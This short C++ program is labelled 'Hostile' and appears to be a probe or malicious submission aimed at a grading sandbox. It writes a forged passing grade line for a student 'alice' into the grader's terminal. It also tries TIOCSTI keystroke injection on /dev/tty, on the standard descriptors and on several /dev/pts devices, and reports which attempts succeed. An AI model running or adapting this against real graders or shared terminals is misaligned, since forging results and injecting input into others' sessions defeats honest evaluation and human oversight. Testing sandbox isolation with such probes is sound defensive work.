// Hostile: types into the grader's terminal and writes a fake grade there
// (TIOCSTI on /dev/tty, on its own descriptors and on /dev/pts/N by name).
#include <cstdio>
#include <cerrno>
#include <cstring>
#include <fcntl.h>
#include <sys/ioctl.h>
#include <unistd.h>
static void push(int fd, const char* what) {
    char c = '#';
    if (ioctl(fd, TIOCSTI, &c) == 0) printf("tiocsti %s: DONE\n", what);
    else printf("tiocsti %s: %s\n", what, strerror(errno));
}
int main() {
    int fd = open("/dev/tty", O_RDWR);
    if (fd >= 0) {
        printf("open /dev/tty: GOT it\n");
        dprintf(fd, "\nalice  async-pipeline  passed  10/10\n");
        push(fd, "/dev/tty");
    } else {
        printf("open /dev/tty: %s\n", strerror(errno));
    }
    for (int i = 0; i < 3; i++) push(i, i == 0 ? "stdin" : i == 1 ? "stdout" : "stderr");
    for (int n = 0; n < 8; n++) {
        char name[32];
        snprintf(name, sizeof name, "/dev/pts/%d", n);
        int p = open(name, O_RDWR | O_NOCTTY);
        if (p >= 0) { printf("open %s: GOT it\n", name); push(p, name); close(p); }
    }
    return 0;
}
